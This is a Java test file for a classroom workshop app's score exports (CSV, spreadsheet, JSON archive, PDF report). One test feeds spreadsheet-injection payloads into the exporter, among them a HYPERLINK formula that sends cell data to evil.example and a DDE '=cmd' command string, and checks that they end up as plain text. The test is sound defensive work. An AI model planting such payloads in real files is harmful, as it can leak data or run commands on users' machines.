package org.ssmclassroom.record;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.security.authentication.AuthenticationCredentialsNotFoundException;
import org.springframework.security.core.context.SecurityContextHolder;
import org.ssmclassroom.base.BoardId;
import org.ssmclassroom.base.BoardItemId;
import org.ssmclassroom.base.TableId;
import org.ssmclassroom.base.WorkshopId;
import org.ssmclassroom.scoring.ScoringService;
import org.ssmclassroom.testing.AppTest;
import org.ssmclassroom.testing.Instructor;
import org.ssmclassroom.workshop.NewWorkshop;
import org.ssmclassroom.workshop.Trainees;
import org.ssmclassroom.workshop.WorkshopService;
import org.ssmclassroom.workshop.WorkshopSteering;
import tools.jackson.dataformat.csv.CsvMapper;
import tools.jackson.dataformat.csv.CsvReadFeature;

@AppTest
class WorkshopRecordsTest {

    @Autowired
    WorkshopRecords records;

    @Autowired
    WorkshopService workshops;

    @Autowired
    WorkshopSteering steering;

    @Autowired
    Trainees trainees;

    @Autowired
    ScoringService scoring;

    @Autowired
    org.ssmclassroom.board.BoardService boards;

    private WorkshopId workshop;
    private TableId one;
    private TableId two;

    @BeforeEach
    void aChineseClassScoredOnExerciseTwo() {
        Instructor.signIn();
        workshop = workshops.create(
                new NewWorkshop(
                        "上海班", LocalDate.of(2026, 12, 1), "homebody", Locale.SIMPLIFIED_CHINESE, List.of("第1桌", "第2桌")),
                AppTest.INSTRUCTOR);
        one = workshops.snapshot(workshop).tables().get(0).id();
        two = workshops.snapshot(workshop).tables().get(1).id();
        scoring.mark(one, "ex2", "complete", 4, "信息齐全, \"清楚\"", 0);
        scoring.mark(two, "ex2", "complete", 1, "缺少金额", 0);
        scoring.release(workshop, "ex2");
    }

    @AfterEach
    void signOut() {
        SecurityContextHolder.clearContext();
    }

    @Test
    void theCsvOpensInExcelWithChineseAndHasARowPerTableExerciseAndCriterion() throws Exception {
        byte[] csv = records.scoresCsv(workshop);

        assertThat(Arrays.copyOf(csv, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        List<List<String>> rows = rows(new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8));
        assertThat(rows.getFirst())
                .containsExactly("小组", "练习", "评分项", "得分", "满分", "等级", "评语", "评分人", "各评分人的得分", "状态", "已公布");
        int criteria = workshops.snapshot(workshop).pack().method().rubrics().stream()
                .mapToInt(r -> r.criteria().size())
                .sum();
        assertThat(rows).hasSize(1 + 2 * criteria);
        assertThat(rows)
                .anySatisfy(row -> assertThat(row)
                        .containsExactly(
                                "第1桌",
                                "团队练习2 — 商机模拟练习",
                                "商机信息完整（化名、金额、时间）",
                                "4",
                                "4",
                                "齐全、用化名、描述清楚",
                                "信息齐全, \"清楚\"",
                                "lee",
                                "4",
                                "已评分",
                                "✓"));
    }

    @Test
    void theSpreadsheetHasTheScoresAndEachTablesTotals() throws Exception {
        try (ReadableWorkbook book = new ReadableWorkbook(new ByteArrayInputStream(records.scoresXlsx(workshop)))) {
            List<Row> scores = book.findSheet("评分").orElseThrow().read();
            assertThat(scores.get(1).getCellText(0)).isEqualTo("第1桌");
            List<Row> totals = book.findSheet("总分").orElseThrow().read();
            assertThat(totals.get(0).getCellText(1)).isEqualTo("小组");
            assertThat(totals.get(1).getCellText(1)).isEqualTo("第1桌");
            assertThat(totals.get(1).getCellAsNumber(3))
                    .hasValueSatisfying(total -> assertThat(total.intValue()).isEqualTo(4));
            assertThat(totals.get(2).getCellAsNumber(3))
                    .hasValueSatisfying(total -> assertThat(total.intValue()).isEqualTo(1));
        }
    }

    @Test
    void theArchiveHoldsTheWholeWorkshopInAVersionedFormatWithoutDeviceTokens() throws Exception {
        org.ssmclassroom.security.DeviceToken mei = org.ssmclassroom.security.DeviceToken.random();
        org.ssmclassroom.workshop.Workshops.join(workshops, trainees, workshop, mei, "美", 0);
        steering.openExercise(workshop, "ex2", Set.of());
        BoardId board = boards.boardOf(mei).orElseThrow().boardId();
        boards.edit(mei, board, BoardItemId.parse("opportunity/main"), "salesperson", "张伟", 0);
        boards.edit(mei, board, BoardItemId.parse("opportunity/main"), "salesperson", "张伟 (化名)", 1);
        scoring.pin(one, "ex2", "complete", "opportunity/main", true);

        byte[] json = records.archive(workshop);

        var tree = tools.jackson.databind.json.JsonMapper.builder().build().readTree(json);
        assertThat(tree.get("format").asString()).isEqualTo("ssm-classroom/workshop-archive");
        assertThat(tree.get("version").asInt()).isEqualTo(1);
        assertThat(tree.get("workshop").get("name").asString()).isEqualTo("上海班");
        assertThat(tree.get("released").get(0).asString()).isEqualTo("ex2");
        var first = tree.get("tables").get(0);
        assertThat(first.get("name").asString()).isEqualTo("第1桌");
        assertThat(first.get("participants").get(0).get("name").asString()).isEqualTo("美");
        var ex2 = first.get("boards").get(0);
        assertThat(ex2.get("exercise").asString()).isEqualTo("ex2");
        assertThat(ex2.get("values").get(0).get("text").asString()).isEqualTo("张伟 (化名)");
        assertThat(ex2.get("history")).hasSize(2);
        assertThat(first.get("marks").get(0).get("mark").get("evidence").get(0).asString())
                .isEqualTo("opportunity/main");
        String text = new String(json, StandardCharsets.UTF_8);
        assertThat(text).doesNotContain(mei.value()).doesNotContainIgnoringCase("device");
    }

    @Test
    void aTablesReportIsAPdfWithChineseTextThatCanBeSearchedAndItsPainChainDrawn() throws Exception {
        org.ssmclassroom.security.DeviceToken mei = org.ssmclassroom.security.DeviceToken.random();
        org.ssmclassroom.workshop.Workshops.join(workshops, trainees, workshop, mei, "王美", 0);
        steering.openExercise(workshop, "ex4", Set.of());
        BoardId board = boards.boardOf(mei).orElseThrow().boardId();
        BoardItemId ceo = boards.addItem(mei, board, "pain-chain");
        boards.edit(mei, board, ceo, "name", "张总", 0);
        boards.edit(mei, board, ceo, "pain", "利润下降", 0);
        boards.edit(mei, board, ceo, "reason1", "收入减少", 0);
        BoardItemId cfo = boards.addItem(mei, board, "pain-chain");
        boards.edit(mei, board, cfo, "name", "李财务", 0);
        boards.edit(mei, board, cfo, "pain", "收入减少", 0);
        scoring.mark(one, "ex4", "chain", 2, "链条需要4人以上", 0);

        byte[] pdf = records.tableReport(one);

        assertThat(new String(pdf, 0, 5, StandardCharsets.US_ASCII)).isEqualTo("%PDF-");
        try (var document = org.apache.pdfbox.Loader.loadPDF(pdf)) {
            String text = new org.apache.pdfbox.text.PDFTextStripper().getText(document);
            assertThat(text)
                    .contains("第1桌", "上海班", "王美", "团队练习2", "信息齐全")
                    .contains("张总: 利润下降", "收入减少 → 李财务", "链条需要4人以上")
                    .contains("商机信息完整（化名、金额、时间）")
                    .doesNotContain("缺少金额");
            var renderer = new org.apache.pdfbox.rendering.PDFRenderer(document);
            java.nio.file.Path shots = java.nio.file.Path.of("target", "screenshots");
            java.nio.file.Files.createDirectories(shots);
            for (int page = 0; page < Math.min(3, document.getNumberOfPages()); page++) {
                javax.imageio.ImageIO.write(
                        renderer.renderImageWithDPI(page, 80),
                        "png",
                        shots.resolve("report-zh-page-" + (page + 1) + ".png").toFile());
            }
        }
    }

    @Test
    void theReportsCoverListsTheRolesOfEveryExerciseAndAnExerciseNeverScoredSaysSo() throws Exception {
        org.ssmclassroom.security.DeviceToken mei = org.ssmclassroom.security.DeviceToken.random();
        org.ssmclassroom.security.DeviceToken hao = org.ssmclassroom.security.DeviceToken.random();
        org.ssmclassroom.workshop.Workshops.join(workshops, trainees, workshop, mei, "王美", 0);
        org.ssmclassroom.workshop.Workshops.join(workshops, trainees, workshop, hao, "李浩", 0);
        steering.openExercise(workshop, "ex4", Set.of());
        boards.boardOf(mei).orElseThrow();
        steering.openExercise(workshop, "ex5", Set.of());
        boards.boardOf(mei).orElseThrow();

        byte[] pdf = records.tableReport(one);

        try (var document = org.apache.pdfbox.Loader.loadPDF(pdf)) {
            String text = new org.apache.pdfbox.text.PDFTextStripper().getText(document);
            String cover = text.substring(0, text.indexOf("团队练习2 — "));
            assertThat(cover).contains("各练习中的角色", "团队练习4", "团队练习5");
            // Exercise 4 has a board but no score yet: not "0/10".
            assertThat(text).contains("评分：未评分").doesNotContain("评分：0/");
        }
    }

    @Test
    void textASpreadsheetWouldRunAsAFormulaIsTextInTheCsvAndInTheSpreadsheet() throws Exception {
        String link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Scores\")";
        WorkshopId pranked = workshops.create(
                new NewWorkshop(
                        "Pranked", LocalDate.of(2026, 12, 1), "homebody", Locale.ENGLISH, List.of(link, "@SUM(1+1)")),
                AppTest.INSTRUCTOR);
        TableId first = workshops.snapshot(pranked).tables().get(0).id();
        TableId second = workshops.snapshot(pranked).tables().get(1).id();
        scoring.mark(first, "ex2", "complete", 4, "+1+2", 0);
        Instructor.signInAs("-2+3");
        scoring.mark(second, "ex2", "complete", 1, "=cmd|' /C calc'!A0", 0);
        Instructor.signIn();

        byte[] csv = records.scoresCsv(pranked);

        String text = new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
        assertThat(text.lines()).allMatch(line -> line.startsWith("\"") && line.endsWith("\""));
        List<List<String>> rows = rows(text);
        assertThat(rows)
                .flatExtracting(row -> row)
                .noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0)
                .contains("'" + link, "'@SUM(1+1)", "'+1+2", "'-2+3", "'=cmd|' /C calc'!A0");
        try (ReadableWorkbook book = new ReadableWorkbook(new ByteArrayInputStream(records.scoresXlsx(pranked)))) {
            for (String sheet : List.of("Scores", "Totals")) {
                List<Row> read = book.findSheet(sheet).orElseThrow().read();
                assertThat(read)
                        .flatExtracting(row ->
                                row.stream().filter(java.util.Objects::nonNull).toList())
                        .as(sheet + " holds values only, never a formula")
                        .allMatch(cell -> cell.getType() != org.dhatim.fastexcel.reader.CellType.FORMULA
                                && cell.getFormula() == null)
                        .extracting(org.dhatim.fastexcel.reader.Cell::getText)
                        .contains(link, "@SUM(1+1)");
            }
        }
    }

    @Test
    void onlyAnInstructorDownloadsTheRecord() {
        SecurityContextHolder.clearContext();
        assertThatThrownBy(() -> records.scoresCsv(workshop))
                .isInstanceOf(AuthenticationCredentialsNotFoundException.class);
        assertThatThrownBy(() -> records.scoresXlsx(workshop))
                .isInstanceOf(AuthenticationCredentialsNotFoundException.class);
    }

    private static List<List<String>> rows(String text) throws Exception {
        CsvMapper mapper =
                CsvMapper.builder().enable(CsvReadFeature.WRAP_AS_ARRAY).build();
        try (var iterator = mapper.readerForListOf(String.class).readValues(text)) {
            @SuppressWarnings("unchecked")
            List<List<String>> all = (List<List<String>>) (List<?>) iterator.readAll();
            return all;
        }
    }
}
